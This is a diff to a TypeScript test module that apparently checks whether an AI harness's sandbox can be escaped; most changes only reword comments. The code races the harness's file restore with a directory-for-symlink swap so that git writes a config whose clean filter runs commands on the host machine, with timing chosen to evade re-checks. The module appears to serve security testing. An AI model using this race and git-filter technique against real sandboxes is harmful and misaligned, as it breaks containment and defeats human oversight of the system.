@@ -1,5 +1,5 @@
-// A daemon that *is* alive while the harness puts refused files back, and swaps their
-// directory for a link to the harness's git directory, so that git lays the model's configuration there and runs it.
+// A daemon that *is* alive while the harness undoes refused files, and swaps their directory for a link to the
+// harness's git directory, so that git writes the model's configuration there and runs it.
 import { existsSync, readFileSync, realpathSync, rmSync } from "node:fs";
 import { join } from "node:path";
 import { setTimeout as sleep } from "node:timers/promises";
@@ -8,7 +8,7 @@ import { aWorkbench, closeAll, type Handle } from "../kit.ts";
 export interface Escape {
   /** The filter ran on the machine. */
   readonly escaped: boolean;
-  /** It ran at all, if only in the ledger's sandbox. */
+  /** It ran at all, even if only in the ledger's sandbox. */
   readonly ran: boolean;
   /** The harness's git directory has the model's configuration, or none any more. */
   readonly written: boolean;
@@ -20,19 +20,19 @@ export interface Escape {
 }
 
 export interface EscapeOptions {
-  /** A directory on the machine that the sandboxes' user may write to; the proof is written there, and nothing else. */
+  /** A directory on the machine that the sandboxes' user may write to; only the proof is written there. */
   readonly proof: string;
-  /** Where the link leads. `machine`: from the work tree. `ledger`: as the ledger's sandbox has it. */
+  /** Where the link leads. `machine`: as seen from the work tree. `ledger`: as seen in the ledger's sandbox. */
   readonly target: "machine" | "ledger";
   readonly turns: number;
 }
 
 const TARGETS = { machine: "../../../git", ledger: "/.kin/git" } as const;
 
-/** Seconds that the link stays: long enough for git to come to `config`, too short for a second look at it. */
+/** Seconds that the link stays: long enough for git to reach `config`, too short for a second look at it. */
 const HOLDS = [0.06, 0.12, 0.25, 0.03];
 
-/** One bench, until it worked or `turns` are over. */
+/** One bench, until it worked or all `turns` are used. */
 export const tryEscape = async ({ proof, target, turns }: EscapeOptions): Promise<Escape> => {
   const file = join(proof, "ESCAPED");
   rmSync(file, { force: true });
@@ -58,21 +58,21 @@ export const tryEscape = async ({ proof, target, turns }: EscapeOptions): Promis
     }
     return { ...seen, proof: textOf(file) };
   } finally {
-    // Where git's directory was broken by it, closing does not know what to open.
+    // If its git directory was damaged, closing does not know what to unseal.
     const left = realpathSync(stand.dir);
     await closeAll().catch(closeAll);
     rmSync(left, { recursive: true, force: true, maxRetries: 3 });
   }
 };
 
-/** The first puts files back; the second runs the filter, whatever file it is for. */
+/** The first undoes files; the second runs the filter, whatever file it is for. */
 const recordTwice = async (bench: Handle): Promise<void> => {
   await bench.record().catch(() => undefined);
   await bench.bash("date +%N > /work/hello.txt");
   await bench.record().catch(() => undefined);
 };
 
-/** Ordinary files with ordinary names, to be accepted. The more there is in them, the longer the window. */
+/** Ordinary files with ordinary names, to be accepted. The more they contain, the longer the window. */
 const prepared = (file: string): string => `
 mkdir -p /work/x/info && cd /work/x
 for i in $(seq -w 0 89); do head -c 7000 /dev/urandom | base64 -w 0 > a$i; done
@@ -85,7 +85,7 @@ cat > config <<'EOC'
 	clean = "{ id; hostname; pwd; } > ${file} 2>/dev/null; touch /tmp/RAN; cat"
 EOC`;
 
-/** The setuid bit is what gets them refused. The daemon ends itself, at the latest with its bench. */
+/** The setuid bit gets them refused. The daemon ends by itself, at the latest with its bench. */
 const armed = (target: string, turn: number): string => `
 cat > /tmp/swap.py <<'PY'
 import ctypes, os, time
